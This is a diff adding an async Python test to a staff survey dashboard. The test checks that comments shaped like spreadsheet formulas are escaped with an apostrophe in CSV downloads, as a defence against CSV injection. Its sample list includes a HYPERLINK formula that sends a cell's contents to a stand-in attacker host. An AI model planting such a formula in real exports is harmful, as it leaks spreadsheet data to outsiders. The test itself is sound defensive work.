@@ -91,3 +91,30 @@ async def test_a_slow_download_holds_no_database_connection_once_the_comments_ar
     assert db.engine.pool.checkedout() == 0  # a reader that stops here holds nothing
     rest = [p async for p in pieces]
     assert any("comment" in p for p in rest)
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"more")', "+1 more staff please", "-2 for the rota",
+            "@SUM(A1:A9)"]
+
+
+async def test_a_comment_a_spreadsheet_would_run_is_downloaded_as_text(loaded: Core) -> None:
+    """A pulse comment that starts like a formula reaches the change team's spreadsheet as text
+    (prefixed with an apostrophe, OWASP's CSV injection advice), in the download and in what
+    `staffvoice report round` writes; figures, negative ones included, stay numbers."""
+    everyone = await emails(loaded)
+    answers = everyone_answers(everyone, comments=len(everyone))
+    for person, formula in zip(everyone, FORMULAS, strict=False):
+        answers[person]["comment"] = formula
+    await seed_round(loaded, MONDAY_10, answers)
+    async with serve_dashboard(loaded) as server:
+        status, _, text = await _download(server, LEADER)
+    assert status == 200
+    rows = list(csv.reader(io.StringIO(text)))
+    comments = [r[6] for r in rows if r[1] == "all" and r[5] == "comment"]
+    assert sorted(c for c in comments if c.startswith("'")) == sorted("'" + f for f in FORMULAS)
+    assert not [c for c in comments if c.startswith(("=", "+", "-", "@", "\t"))]
+    assert all(not r[6].startswith("'") for r in rows if r[5] != "comment")
+    async with loaded.db.session() as s:
+        info = await reports.latest_closed_round(s)
+        assert info is not None
+        assert text.replace("\r\n", "\n") == (await export_round(s, info.id, "csv")).replace("\r\n", "\n")
